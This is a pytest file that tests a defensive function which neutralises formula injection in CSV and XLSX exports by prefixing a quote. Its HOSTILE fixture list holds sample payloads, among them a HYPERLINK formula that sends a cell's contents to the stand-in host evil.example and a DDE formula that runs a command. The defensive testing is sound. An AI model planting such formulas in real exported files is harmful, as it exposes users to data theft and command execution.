"""Formula-injection defusing for CSV/XLSX exports (no database)."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.spreadsheet_safety import DANGEROUS_PREFIXES, neutralise_cell, neutralise_row, restore_cell

FAST = settings(max_examples=60, deadline=None)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_dangerous_strings_get_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kim", "김민수", "", " =1", "1+1", "'quoted", "a=b", "<script>"])
def test_harmless_strings_unchanged(value):
    assert neutralise_cell(value) == value


def test_a_text_that_looks_defused_gets_one_more_quote():
    """``'=x`` typed by someone is not our defusing: it gets its own, so the import keeps its quote."""
    assert neutralise_cell("'=already") == "''=already"
    assert restore_cell("''=already") == "'=already"


@pytest.mark.parametrize("value", [0, -5, 3.5, -0.25, True, None])
def test_non_strings_unchanged(value):
    assert neutralise_cell(value) is value


def test_row():
    assert neutralise_row(["=1", 1200, "Kim", -3]) == ["'=1", 1200, "Kim", -3]


@FAST
@given(st.one_of(st.text(max_size=20), st.integers(), st.floats(allow_nan=False), st.none()))
def test_never_starts_with_a_dangerous_character(value):
    safe = neutralise_cell(value)
    if isinstance(value, str):
        assert not safe.startswith(DANGEROUS_PREFIXES)
        assert safe in (value, "'" + value)
    else:
        assert safe is value


def test_openpyxl_writes_text_not_formulas():
    wb = Workbook()
    ws = wb.active
    ws.append(neutralise_row([*HOSTILE, 1000]))
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert all(cell.data_type == "s" for cell in row[:-1])
    # XML stores a carriage return as a newline; the quote in front is what matters.
    assert [cell.value for cell in row[:-1]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert row[-1].value == 1000
    assert row[-1].data_type == "n"


def test_csv_round_trip():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(neutralise_row(HOSTILE))
    read_back = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(cell.startswith("'") for cell in read_back)


@given(text=st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "a", "1", " ", "가"]), max_size=8))
def test_a_defused_cell_reads_back_as_it_was(text):
    """Our exports defuse with a leading quote; reading them back removes exactly that quote, also for
    a text that itself starts with quotes before a formula character (``'=x``, ``''@y``)."""
    assert restore_cell(neutralise_cell(text)) == text
    assert not neutralise_cell(text).lstrip("'").startswith(DANGEROUS_PREFIXES) or neutralise_cell(text)[0] == "'"
